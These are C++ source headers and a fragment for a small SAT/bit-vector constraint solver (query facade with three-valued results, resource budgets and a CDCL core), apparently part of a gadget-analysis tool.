      out = dst_.ite(import(n.a), import(n.b), import(n.c));
      break;
    case Op::ZExt: out = dst_.zext(import(n.a), n.width); break;
    case Op::SExt: out = dst_.sext(import(n.a), n.width); break;
    case Op::Extract: out = dst_.extract(import(n.a), n.aux, n.width); break;
    case Op::Concat: out = dst_.concat(import(n.a), import(n.b)); break;
  }
  memo_.emplace(e, out);
  return out;
}

}  // namespace gp::solver
