// Query facade over the expression DAG + bit-blaster: satisfiability with
// model extraction, validity, equivalence and implication checks. One
// BitBlaster (and SAT instance) is built per query; gadget-sized formulas
// keep these small. Results are memoized per (query kind, operand refs).
#pragma once

#include <optional>
#include <unordered_map>
#include <vector>

#include "solver/bitblast.hpp"
#include "solver/expr.hpp"

namespace gp::solver {

/// A satisfying assignment: variable ref -> 64-bit value.
using Model = std::unordered_map<ExprRef, u64>;

class Solver {
 public:
  explicit Solver(Context& ctx, i64 conflict_budget = 2'000'000)
      : ctx_(ctx), conflict_budget_(conflict_budget) {}

  /// Is the conjunction of `constraints` satisfiable? Returns a model when
  /// it is; nullopt when UNSAT (or the conflict budget is exhausted, which
  /// callers treat as "no usable answer" — sound for gadget filtering).
  std::optional<Model> check_sat(const std::vector<ExprRef>& constraints);

  /// Is `e` true under every assignment?
  bool prove_valid(ExprRef e);

  /// Are `a` and `b` equal under every assignment? Fast path: identical
  /// interned refs (the smart constructors already canonicalized).
  bool prove_equal(ExprRef a, ExprRef b);

  /// Does `antecedent` imply `consequent` (both width 1)?
  bool prove_implies(ExprRef antecedent, ExprRef consequent);

  /// Is the conjunction satisfiable *given* that we only need a yes/no (no
  /// model)? Uses the memo cache.
  bool is_sat(const std::vector<ExprRef>& constraints);

  u64 queries() const { return queries_; }
  u64 cache_hits() const { return cache_hits_; }

 private:
  enum class Memo : u8 { Sat, Unsat };

  Context& ctx_;
  i64 conflict_budget_;
  std::unordered_map<u64, Memo> memo_;
  u64 queries_ = 0;
  u64 cache_hits_ = 0;
};

}  // namespace gp::solver
