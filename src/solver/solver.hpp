// Query facade over the expression DAG + bit-blaster: satisfiability with
// model extraction, validity, equivalence and implication checks. One
// BitBlaster (and SAT instance) is built per query; gadget-sized formulas
// keep these small. Results are memoized per (query kind, operand refs).
//
// Three-valued soundness: a query can come back UNKNOWN (conflict budget,
// governor deadline/cancel, solver-check budget, injected fault). UNKNOWN
// is never memoized and never coerced to SAT or UNSAT — prove_* return
// false ("could not prove"), is_sat/check_sat return "no usable answer",
// and last_unknown()/unknowns() let callers account for inconclusive
// results. Consumers must degrade conservatively: subsumption keeps both
// gadgets, concretization fails the chain.
#pragma once

#include <optional>
#include <unordered_map>
#include <vector>

#include "solver/bitblast.hpp"
#include "solver/expr.hpp"
#include "support/governor.hpp"

namespace gp::solver {

/// A satisfying assignment: variable ref -> 64-bit value.
using Model = std::unordered_map<ExprRef, u64>;

class Solver {
 public:
  explicit Solver(Context& ctx, i64 conflict_budget = 2'000'000,
                  Governor* governor = nullptr)
      : ctx_(ctx), conflict_budget_(conflict_budget), governor_(governor) {}

  /// Attach/detach the resource governor: each query then consumes one
  /// solver-check budget unit and the SAT core polls the deadline/cancel
  /// token. The governor must outlive the solver.
  void set_governor(Governor* g) { governor_ = g; }

  /// Is the conjunction of `constraints` satisfiable? Returns a model when
  /// it is; nullopt when UNSAT *or* UNKNOWN (check last_unknown() to
  /// distinguish — "no usable answer" is sound for gadget filtering but
  /// callers that report statistics should count the two separately).
  std::optional<Model> check_sat(const std::vector<ExprRef>& constraints);

  /// Three-valued satisfiability of the conjunction (memo-cached for
  /// Sat/Unsat; Unknown is never cached so a later, better-budgeted retry
  /// can still succeed).
  SatResult check(const std::vector<ExprRef>& constraints);

  /// Is `e` true under every assignment? false on UNKNOWN (not proven).
  bool prove_valid(ExprRef e);

  /// Are `a` and `b` equal under every assignment? Fast path: identical
  /// interned refs (the smart constructors already canonicalized).
  /// false on UNKNOWN (not proven).
  bool prove_equal(ExprRef a, ExprRef b);

  /// Does `antecedent` imply `consequent` (both width 1)?
  /// false on UNKNOWN (not proven).
  bool prove_implies(ExprRef antecedent, ExprRef consequent);

  /// Is the conjunction satisfiable *given* that we only need a yes/no (no
  /// model)? Uses the memo cache. false on UNKNOWN.
  bool is_sat(const std::vector<ExprRef>& constraints);

  u64 queries() const { return queries_; }
  u64 cache_hits() const { return cache_hits_; }
  /// Did the most recent query (through any entry point) end UNKNOWN?
  bool last_unknown() const { return last_unknown_; }
  /// Queries that ended UNKNOWN since construction.
  u64 unknowns() const { return unknowns_; }

 private:
  enum class Memo : u8 { Sat, Unsat };

  /// Shared engine behind check()/check_sat(): runs the pre-checks,
  /// budgets, fault point and bit-blasting; fills `model` only on Sat when
  /// requested.
  SatResult check_impl(const std::vector<ExprRef>& constraints,
                       std::optional<Model>* model);

  Context& ctx_;
  i64 conflict_budget_;
  Governor* governor_;
  std::unordered_map<u64, Memo> memo_;
  u64 queries_ = 0;
  u64 cache_hits_ = 0;
  u64 unknowns_ = 0;
  bool last_unknown_ = false;
};

}  // namespace gp::solver
