// Small CDCL SAT solver: two-watched-literal propagation, 1-UIP clause
// learning, VSIDS-style activity, geometric restarts. This is the decision
// core underneath the bit-blaster (the role Z3's SAT engine plays for the
// paper's constraint queries).
#pragma once

#include <vector>

#include "support/common.hpp"
#include "support/governor.hpp"

namespace gp::solver {

/// Literal: variable index v with sign. Encoded as 2*v (positive) or 2*v+1
/// (negated), matching the watch-list layout.
struct Lit {
  u32 code = 0;
  static Lit pos(u32 v) { return {v << 1}; }
  static Lit neg(u32 v) { return {(v << 1) | 1}; }
  Lit operator~() const { return {code ^ 1}; }
  u32 var() const { return code >> 1; }
  bool sign() const { return code & 1; }  // true = negated
  bool operator==(const Lit&) const = default;
};

enum class SatResult { Sat, Unsat, Unknown };

class Sat {
 public:
  u32 new_var();
  u32 num_vars() const { return static_cast<u32>(assign_.size()); }

  /// Add a clause (disjunction). An empty clause makes the instance
  /// trivially UNSAT. Returns false if the formula is already known UNSAT.
  bool add_clause(std::vector<Lit> lits);

  /// Solve. `conflict_budget` < 0 means unlimited. When a governor is
  /// given, the propagation/decision loop polls its deadline and cancel
  /// token (every kGovernorStride iterations) and returns Unknown once it
  /// should stop — the watchdog that keeps a pathological query from
  /// out-living the pipeline's wall-clock budget.
  SatResult solve(i64 conflict_budget = -1, const Governor* governor = nullptr);

  /// After Sat: the value assigned to var v.
  bool model_value(u32 v) const {
    GP_CHECK(v < assign_.size(), "model_value out of range");
    return assign_[v] == 1;
  }

  u64 num_conflicts() const { return conflicts_; }
  size_t num_clauses() const { return clauses_.size(); }

 private:
  static constexpr u32 kNoReason = 0xffffffff;

  struct Clause {
    std::vector<Lit> lits;
    bool learned = false;
  };
  struct Watch {
    u32 clause;
    Lit blocker;
  };

  // assign_: 0 = false, 1 = true, 2 = unassigned.
  i8 value(Lit l) const {
    const i8 a = assign_[l.var()];
    if (a == 2) return 2;
    return static_cast<i8>(a ^ static_cast<i8>(l.sign()));
  }
  void enqueue(Lit l, u32 reason);
  u32 propagate();  // returns conflicting clause index or kNoReason
  void analyze(u32 confl, std::vector<Lit>& learnt, u32& backtrack_level);
  void backtrack(u32 level);
  Lit decide();
  void bump(u32 v);
  void decay();

  std::vector<Clause> clauses_;
  std::vector<std::vector<Watch>> watches_;  // indexed by Lit.code
  std::vector<i8> assign_;
  std::vector<u32> level_;
  std::vector<u32> reason_;
  std::vector<Lit> trail_;
  std::vector<u32> trail_lim_;
  size_t qhead_ = 0;
  std::vector<double> activity_;
  double activity_inc_ = 1.0;
  std::vector<u8> seen_;
  std::vector<u8> polarity_;  // phase saving
  u64 conflicts_ = 0;
  bool unsat_ = false;
};

}  // namespace gp::solver
